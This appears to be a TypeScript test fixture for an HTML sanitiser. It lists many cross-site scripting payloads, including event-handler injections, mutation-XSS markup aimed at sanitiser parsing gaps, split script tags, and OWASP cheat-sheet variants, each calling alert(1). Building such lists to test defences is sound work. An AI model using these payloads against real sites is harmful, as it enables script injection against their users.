  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg script entity', html: '<svg><script>alert&#40;1&#41;</script></svg>' },
  { name: 'body onpageshow', html: '<body onpageshow=alert(1)>' },
  { name: 'body onfocus', html: '<body onfocus=alert(1)>' },
  { name: 'frameset onload', html: '<frameset onload=alert(1)>' },
  { name: 'iframe onload', html: '<iframe onload=alert(1)></iframe>' },
  { name: 'style onload', html: '<style onload=alert(1)></style>' },
  { name: 'link onload', html: '<link rel=stylesheet href=data:,* onload=alert(1)>' },
  { name: 'input autofocus onfocus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'select autofocus onfocus', html: '<select autofocus onfocus=alert(1)></select>' },
  { name: 'textarea autofocus onfocus', html: '<textarea autofocus onfocus=alert(1)></textarea>' },
  { name: 'keygen autofocus onfocus', html: '<keygen autofocus onfocus=alert(1)>' },
  { name: 'h1 tabindex autofocus', html: '<h1 onfocus="alert(1)" tabindex="1" autofocus>x</h1>' },
  {
    name: 'a id onfocus',
    html: '<a id="x" tabindex="1" onfocus="alert(1)" href="https://example.com">x</a>',
  },
  { name: 'input onblur autofocus', html: '<input onblur=alert(1) autofocus><input autofocus>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>' },
  {
    name: 'details ontoggle summary',
    html: '<details ontoggle="alert(1)" open><summary>x</summary></details>',
  },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'video onerror', html: '<video src=x onerror=alert(1)></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)>' },
  { name: 'video poster javascript', html: `<video poster="${JS}"></video>` },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'marquee onfinish', html: '<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>' },
  { name: 'object onerror', html: '<object data=x onerror=alert(1)></object>' },
  { name: 'script onerror', html: '<script src=x onerror=alert(1)></script>' },
  {
    name: 'div onanimationstart',
    html: '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(1)"></div>',
  },
  {
    name: 'div ontransitionend',
    html: '<div style="transition:1s" ontransitionend=alert(1)>x</div>',
  },
  {
    name: 'div onscroll',
    html: '<div style="overflow:auto;height:10px" onscroll=alert(1)><br><br><br>x</div>',
  },
  { name: 'p onpointerover', html: '<p onpointerover=alert(1)>x</p>' },
  { name: 'strong onmouseenter', html: '<strong onmouseenter=alert(1)>x</strong>' },
  {
    name: 'code onbeforeinput contenteditable',
    html: '<code contenteditable onbeforeinput=alert(1)>x</code>',
  },
  { name: 'blockquote oncopy', html: '<blockquote oncopy=alert(1)>x</blockquote>' },
  { name: 'li onclick', html: '<ul><li onclick=alert(1)>x</li></ul>' },
  { name: 'br onclick', html: '<br onclick=alert(1)>' },
  { name: 'hr onmouseover', html: '<hr onmouseover=alert(1)>' },
  { name: 'pre style expression', html: '<pre style="width:expression(alert(1))">x</pre>' },
  { name: 'form onsubmit', html: '<form onsubmit=alert(1)><input type=submit></form>' },
  { name: 'form onformdata', html: '<form onformdata=alert(1)><button>x</button></form>' },
  { name: 'embed onload', html: '<embed src=x onload=alert(1)>' },
  { name: 'meta onclick', html: '<meta charset="x" onclick=alert(1)>' },
  {
    name: 'event handler attribute junk',
    html: '<p onclick!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>x</p>',
  },
  { name: 'event handler with slash', html: '<p/onclick=alert(1)>x</p>' },
  { name: 'event handler with entity name', html: '<p on&#99;lick=alert(1)>x</p>' },
  { name: 'unclosed tag handler', html: '<p onclick=alert(1)' },
]

/** Mutation XSS: markup that parses one way in a sanitiser and another in the browser. */
const MUTATIONS: XssPayload[] = [
  { name: 'noscript title', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  {
    name: 'noscript style',
    html: '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  },
  { name: 'template script', html: '<template><script>alert(1)</script></template>' },
  { name: 'template img', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'xmp img', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'xmp closing', html: '<xmp></xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'xmp title', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">' },
  { name: 'plaintext img', html: '<plaintext><img src=x onerror=alert(1)>' },
  { name: 'textarea img', html: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'textarea title', html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>">' },
  { name: 'title img', html: '<title><img src=x onerror=alert(1)></title>' },
  {
    name: 'title attribute close',
    html: '<title><p title="</title><img src=x onerror=alert(1)>">',
  },
  { name: 'noembed img', html: '<noembed><img src=x onerror=alert(1)></noembed>' },
  { name: 'noembed title', html: '<noembed><p title="</noembed><img src=x onerror=alert(1)>">' },
  { name: 'noframes img', html: '<noframes><p title="</noframes><img src=x onerror=alert(1)>">' },
  { name: 'iframe text', html: '<iframe><p title="</iframe><img src=x onerror=alert(1)>">' },
  { name: 'style title', html: '<style><p title="</style><img src=x onerror=alert(1)>">' },
  { name: 'svg style img', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  {
    name: 'svg p style img',
    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    name: 'math mtext mglyph style',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  {
    name: 'math mtext form mglyph',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  {
    name: 'math annotation-xml',
    html: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  },
  {
    name: 'svg desc style',
    html: '<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>',
  },
  { name: 'select style', html: '<select><style></select><img src=x onerror=alert(1)></style>' },
  { name: 'option img', html: '<select><option><img src=x onerror=alert(1)></option></select>' },
  { name: 'table style', html: '<table><style><img src=x onerror=alert(1)></style></table>' },
  { name: 'cdata script', html: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'cdata in svg', html: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  { name: 'comment img', html: '<!--<img src=x onerror=alert(1)>-->' },
  { name: 'comment bang close', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'comment dash bang close', html: '<!-- --!><img src=x onerror=alert(1)>-->' },
  { name: 'comment in attribute', html: '<p title="<!--"><img src=x onerror=alert(1)>-->">x</p>' },
  { name: 'bogus comment', html: '<? foo="><script>alert(1)</script>">' },
  { name: 'bogus end tag', html: '</x onclick=alert(1)><img src=x onerror=alert(1)>' },
  { name: 'doctype', html: '<!DOCTYPE html><img src=x onerror=alert(1)>' },
  { name: 'escaped script text', html: '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>' },
  { name: 'pre newline script', html: '<pre>\n<script>alert(1)</script></pre>' },
  { name: 'code script', html: '<code><script>alert(1)</script></code>' },
  { name: 'script in attribute', html: '<p title="<script>alert(1)</script>">x</p>' },
  { name: 'unclosed script', html: '<script>alert(1)' },
  { name: 'script split by tag', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script split by comment', html: '<scr<!-- -->ipt>alert(1)</script>' },
  { name: 'nested script tags', html: '<<script>script>alert(1)<</script>/script>' },
  { name: 'script in svg title', html: '<svg><title><script>alert(1)</script></title></svg>' },
  { name: 'null in tag name', html: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  { name: 'null in text', html: '<p>a\u0000b</p><img src=x onerror=alert(1)>' },
  {
    name: 'a unclosed p',
    html: '<a href="https://example.com"><p>x</a><img src=x onerror=alert(1)>',
  },
  { name: 'namespace prefix tag', html: '<x:script>alert(1)</x:script>' },
  { name: 'custom element', html: '<my-element onclick=alert(1)>x</my-element>' },
  { name: 'slash in attribute', html: '<img src=x/onerror=alert(1)>' },
  { name: 'uppercase handler in svg', html: '<SVG ONLOAD=alert(1)>' },
]

/** The cheat sheet's spellings of "<", each opening a script (entities must stay text). */
const LESS_THAN: XssPayload[] = LESS_THAN_ESCAPES.map((lt) => ({
  name: `less-than ${lt}`,
  html: `${lt}script>alert(1)${lt}/script>`,
}))

/** The cheat sheet's list of event handlers, each on an element the editor keeps. */
const EVENTS: XssPayload[] = OWASP_EVENT_HANDLERS.map((handler) => ({
  name: `event ${handler}`,
  html: `<p ${handler}="alert(1)">${handler}</p>`,
}))

/** Every payload, each with a unique name. */
export const XSS_PAYLOADS: readonly XssPayload[] = [
  ...CHEAT_SHEET,
  ...LINKS,
  ...HANDLERS,
  ...MUTATIONS,
  ...LESS_THAN,
  ...EVENTS,
]
